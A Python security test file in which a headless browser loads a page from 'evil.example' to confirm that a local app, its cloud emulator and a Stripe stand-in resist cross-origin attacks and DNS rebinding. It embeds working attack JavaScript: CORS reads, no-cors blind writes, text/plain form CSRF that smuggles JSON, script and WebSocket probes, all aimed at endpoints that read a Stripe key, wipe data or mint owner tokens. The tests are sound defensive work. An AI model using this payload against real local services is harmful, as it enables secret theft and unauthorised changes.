"""S1, S13 in a real browser: what a page of another origin gets from a Lotbook that runs on the same machine. Nothing.

The page tries what a page can: reading, writing blindly, scripts, forms, sockets, and a name that was bent to this machine.
A server without a door is among its targets, so that a page which could not attack at all would be noticed.
"""

from __future__ import annotations

import json
import queue
import subprocess
import threading
from collections.abc import Iterator
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import boto3
import pytest

from local.cloud import cloud
from local.cloud.engine import Address, running_engine
from tests import browsers, patience
from tests.scenarios.conftest import Stack, call

FLAGS = (
    "--headless",
    *browsers.FLAGS,
    "--disable-features=LocalNetworkAccessChecks",  # other browsers ask nobody
    "--host-resolver-rules=MAP *.example 127.0.0.1",
)
SCRIPT = """
<!doctype html><title>evil</title><script>
const targets = TARGETS, found = {};
const soon = (work, otherwise) => Promise.race([work, new Promise(done => setTimeout(done, 8000, otherwise))]);
async function attack(name, [url, method, headers, body]) {
  const payload = body === null ? undefined : body;
  const read = fetch(url, {method, headers, body: payload}).then(async answer => ["read", answer.status, await answer.text()]);
  found[name] = await soon(read.catch(error => ["refused", error.name]), ["refused", "late"]);
  const blind = fetch(url, {method, mode: "no-cors", headers: {"content-type": "text/plain"}, body: payload});
  await soon(blind.catch(() => null), null);  // goes out, and what it answers cannot be seen
  if (method === "POST") {
    const frame = document.createElement("iframe"), form = document.createElement("form");
    frame.name = "f" + name; document.body.append(frame, form);
    Object.assign(form, {method: "post", action: url, target: frame.name, enctype: "text/plain"});
    form.append(Object.assign(document.createElement("input"), {name: (body || "{}").slice(0, -1) + ', "x": "', value: '"}'}));
    await soon(new Promise(done => { frame.onload = done; form.submit(); }), null);
  } else {
    const script = Object.assign(document.createElement("script"), {src: url});
    found[name + ", as a script"] = await soon(new Promise(done => {
      script.onload = () => done(["read"]); script.onerror = () => done(["refused"]); document.body.append(script);
    }), ["refused"]);
  }
}
async function socket(name, url) {
  const line = new WebSocket(url.replace("http", "ws"));
  found[name + ", as a socket"] = await soon(new Promise(done => {
    line.onopen = () => done(["read"]); line.onerror = () => done(["refused"]);
  }), ["refused"]);
}
onload = async () => {
  await Promise.all(Object.entries(targets).map(([name, target]) => attack(name, target)));
  await Promise.all(Object.entries(targets).filter(([name]) => name !== "open").map(([name, target]) => socket(name, target[0])));
  await fetch("/report", {method: "POST", body: JSON.stringify(found)});
};
</script><body></body>
"""


@dataclass
class Evil:
    """The server of the page, `http://evil.example:port`; under `/open` it answers every origin, as the engine itself would."""

    server: ThreadingHTTPServer
    targets: dict[str, Any] = field(default_factory=dict)
    reports: queue.Queue[dict[str, Any]] = field(default_factory=queue.Queue)

    @property
    def port(self) -> int:
        return int(self.server.server_port)


@pytest.fixture
def evil() -> Iterator[Evil]:
    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            script = SCRIPT.replace("TARGETS", json.dumps(found.targets))
            self.say("allowed" if self.path == "/open" else script)

        def do_POST(self) -> None:
            body = self.rfile.read(int(self.headers["content-length"] or 0))
            if self.path == "/report":
                found.reports.put(json.loads(body))
            self.say("allowed")

        def do_OPTIONS(self) -> None:
            self.say("")

        def say(self, text: str) -> None:
            self.send_response(200)
            self.send_header("content-type", "text/html" if "<" in text else "text/plain")
            for name in ("origin", "headers", "methods"):
                self.send_header(f"access-control-allow-{name}", "*")
            self.end_headers()
            self.wfile.write(text.encode())

        def log_message(self, *_: Any) -> None:
            """Silence."""

    found = Evil(ThreadingHTTPServer(("127.0.0.1", 0), Handler))
    threading.Thread(target=found.server.serve_forever, daemon=True).start()
    yield found
    found.server.shutdown()
    found.server.server_close()


def browser(folder: Path, *arguments: str) -> subprocess.Popen[str]:
    return subprocess.Popen(
        [browsers.needed(), *FLAGS, f"--user-data-dir={folder}", *arguments],
        stdout=subprocess.PIPE,
        stderr=subprocess.DEVNULL,
        text=True,
    )


def ssm(address: Address) -> Any:
    make: Any = boto3.client
    keys = {"aws_access_key_id": address.key, "aws_secret_access_key": "local"}
    return make("ssm", endpoint_url=address.url, region_name="us-east-1", config=cloud.CONFIG, **keys)


def targets(stack: Stack, engine: str, evil: Evil) -> dict[str, Any]:
    """Address, method, headers, body of what the page tries."""
    stripe = stack.stripe
    get_key = json.dumps({"Name": "/lotbook/local/stripe-key", "WithDecryption": True})
    return {
        "open": [f"http://127.0.0.1:{evil.port}/open", "POST", {}, "{}"],
        "engine: the gateway's key": [f"{engine}/", "POST", {"x-amz-target": "AmazonSSM.GetParameter"}, get_key],
        "engine: health": [f"{engine}/_ministack/health", "GET", {}, None],
        "engine: wipe": [f"{engine}/_ministack/reset", "POST", {}, ""],
        "engine: a function": [f"{engine}/2015-03-31/functions", "POST", {}, '{"FunctionName": "x"}'],
        "local: events": [f"{stack.base}/_local/events", "GET", {}, None],
        "local: a token": [f"{stack.base}/_local/tokens", "POST", {}, '{"account_id": "make", "role": "owner"}'],
        "local: clock": [f"{stack.base}/_local/clock", "POST", {}, '{"advance_seconds": 31622400, "frozen": true}'],
        "local: a schedule": [f"{stack.base}/_local/schedules/expire/run", "POST", {}, "{}"],
        "local: the page": [f"{stack.base}/", "GET", {}, None],
        "api: balance": [f"{stack.base}/v1/accounts/make/balance", "GET", {}, None],
        "stand-in: events": [f"{stripe}/_stand_in/webhooks", "GET", {}, None],
        "stand-in: hold back": [f"{stripe}/_stand_in/webhooks", "POST", {}, '{"mode": "hold"}'],
        "stand-in: customers": [f"{stripe}/v1/customers", "GET", {"authorization": "Bearer sk_test_x"}, None],
    }


def test_s1_s13_a_page_of_another_origin_gets_nothing_and_changes_nothing(
    stack: Stack, evil: Evil, tmp_path: Path
) -> None:
    address, account = running_engine(stack.directory), stack.open_account("insurestack")
    assert address is not None
    evil.targets = targets(stack, address.url, evil)
    page = browser(tmp_path / "chromium", "--remote-debugging-port=0", f"http://evil.example:{evil.port}/")
    try:
        found = evil.reports.get(timeout=patience.SECONDS)
    finally:
        page.kill()
        page.wait()
    assert found.pop("open") == ["read", 200, "allowed"], "the page can attack"
    assert {name: got for name, got in found.items() if got[0] != "refused"} == {}
    nothing_changed(stack, account, address)


def nothing_changed(stack: Stack, account: str, address: Address) -> None:
    assert not stack.clock_is_stopped()
    assert call("GET", f"{stack.stripe}/_stand_in/webhooks").ok()["mode"] == "deliver"
    assert stack.balance(account)["available"] == 10
    assert ssm(address).get_parameter(Name="/lotbook/local/stripe-key")["Parameter"]["Name"]


@pytest.mark.parametrize("place", ["/_local/events", "/", "stripe:/_stand_in/webhooks", "engine:/_ministack/health"])
def test_s1_s13_a_name_that_was_bent_to_this_machine_opens_nothing(stack: Stack, place: str, tmp_path: Path) -> None:
    """DNS rebinding: the page's own origin, to the browser, is the server that it wants to read."""
    server, _, path = place.rpartition(":")
    address = running_engine(stack.directory)
    assert address is not None
    base = {"": stack.base, "stripe": stack.stripe, "engine": address.url}[server]
    port = base.rpartition(":")[2]
    page = browser(tmp_path / "chromium", "--dump-dom", f"http://rebound.example:{port}{path}")
    shown, _ = page.communicate(timeout=patience.SECONDS)
    assert "rebound.example" in shown or "nobody else" in shown, shown
    assert not [word for word in ("events&quot;", '"events"', '"mode"', '"services"', "make try") if word in shown]
